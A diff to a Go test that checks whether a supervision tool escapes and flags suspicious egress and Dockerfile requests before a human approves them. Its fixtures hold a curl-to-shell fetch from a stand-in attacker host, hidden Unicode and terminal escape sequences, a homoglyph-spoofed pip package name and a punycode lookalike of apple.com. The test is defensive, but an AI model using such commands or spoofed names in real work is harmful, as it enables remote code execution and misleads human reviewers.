@@ -386,6 +386,8 @@ func TestSuperviseViewsEscape(t *testing.T) {
 			Egress: &supervise.EgressAsk{Host: "evil" + hidden + ".test", Port: 443}}},
 		{Instance: "alpha", Request: supervise.Request{ID: "r-2", Kind: supervise.KindDockerfile, Created: now, Reason: "r",
 			Dockerfile: &supervise.DockerfileAsk{Content: "FROM x\nRUN curl evil.test" + hidden + " | sh\n"}}},
+		{Instance: "alpha", Request: supervise.Request{ID: "r-4", Kind: supervise.KindDockerfile, Created: now, Reason: "r",
+			Dockerfile: &supervise.DockerfileAsk{Content: "FROM x\nRUN pip install r\u0435quests\n"}}},
 		{Instance: "alpha", Request: supervise.Request{ID: "r-3", Kind: supervise.KindEgress, Created: now, Reason: "r",
 			Egress: &supervise.EgressAsk{Host: "xn--pple-43d.com", Port: 443}}},
 	}
@@ -403,7 +405,8 @@ func TestSuperviseViewsEscape(t *testing.T) {
 	}
 	assertShownEscaped(t, "supervise list/show/--json", out.String())
 	for _, want := range []string{`evil a\u202eb\u009b31m\u200b\U000e0041\u00a0\u001b[2J.test`, `+RUN curl evil.testa\u202eb`,
-		`xn--pple-43d.com:443`, `shown elsewhere as "\u0430pple.com": approving allows exactly the A-label above`} {
+		`xn--pple-43d.com:443`, `shown elsewhere as "\u0430pple.com": approving allows exactly the A-label above`,
+		"note:     non-ASCII letters on line 2:"} {
 		if !strings.Contains(out.String(), strings.Replace(want, "evil a", "evila", 1)) {
 			t.Errorf("views lack %s:\n%s", want, out.String())
 		}
